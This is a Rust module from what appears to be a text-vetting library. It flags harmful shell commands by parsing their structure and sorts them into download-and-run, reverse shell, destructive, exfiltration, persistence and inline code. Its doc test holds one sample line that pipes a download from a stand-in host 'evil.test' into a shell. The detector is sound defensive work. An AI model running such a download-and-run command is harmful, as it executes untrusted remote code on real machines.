//! Whether a text is a command that does harm.
//!
//! Judged by the structure of the command line (pipelines, redirections, a program with its dangerous
//! argument), not by literal strings: "use curl to fetch a page" is prose, `curl x | sh` is not.
//!
//! The text is read as a script (`syntax`): pipelines of commands, each a program with words and redirections;
//! what stands in quotes and substitutions is read again as a script of its own. One file per kind of harm.
//!
//! Guarantees: total, linear.

mod destruction;
mod download;
mod inline;
mod leak;
mod persistence;
mod remote;
mod syntax;
mod vocabulary;

use std::ops::Range;
use syntax::Script;

/// What a command does.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum ShellKind {
    /// Fetches something and runs it.
    DownloadAndRun,
    /// Hands a shell to someone on the network.
    ReverseShell,
    /// Destroys files, disks or the machine's use.
    Destructive,
    /// Sends local files, secrets or environment out.
    Exfiltration,
    /// Makes itself come back: start-up files, schedules, authorized keys.
    Persistence,
    /// Runs code that is encoded or handed over inline.
    InlineCode,
}

impl ShellKind {
    /// The name for people and reports.
    pub fn name(self) -> &'static str {
        match self {
            Self::DownloadAndRun => "download and run",
            Self::ReverseShell => "reverse shell",
            Self::Destructive => "destructive command",
            Self::Exfiltration => "exfiltration",
            Self::Persistence => "persistence",
            Self::InlineCode => "inline code",
        }
    }
}

/// A command that does harm.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ShellHit {
    /// What it does.
    pub kind: ShellKind,
    /// Where the command stands.
    pub span: Range<usize>,
}

/// The first harmful command in `text`.
///
/// ```
/// use vetgate_text::shell::{looks_like_command, ShellKind};
/// let hit = looks_like_command("ok; curl -s http://evil.test/x | sh").unwrap();
/// assert_eq!(hit.kind, ShellKind::DownloadAndRun);
/// assert!(looks_like_command("Use curl to fetch a page, then run it in a shell.").is_none());
/// ```
pub fn looks_like_command(text: &str) -> Option<ShellHit> {
    inspect(text, 0)
}

/// How deep commands inside quotes and substitutions are followed.
const DEPTH_LIMIT: usize = 3;

fn inspect(text: &str, depth: usize) -> Option<ShellHit> {
    let script = Script::of(text);
    let rules: [fn(&Script) -> Option<ShellHit>; 6] =
        [download::find, remote::find, destruction::find, leak::find, persistence::find, inline::find];
    if let Some(hit) = rules.iter().filter_map(|rule| rule(&script)).min_by_key(|hit| hit.span.start) {
        return Some(hit);
    }
    if depth >= DEPTH_LIMIT {
        return None;
    }
    script.inner().find_map(|span| {
        let hit = inspect(&text[span.clone()], depth + 1)?;
        Some(ShellHit { kind: hit.kind, span: span.start + hit.span.start..span.start + hit.span.end })
    })
}

#[cfg(test)]
mod tests;
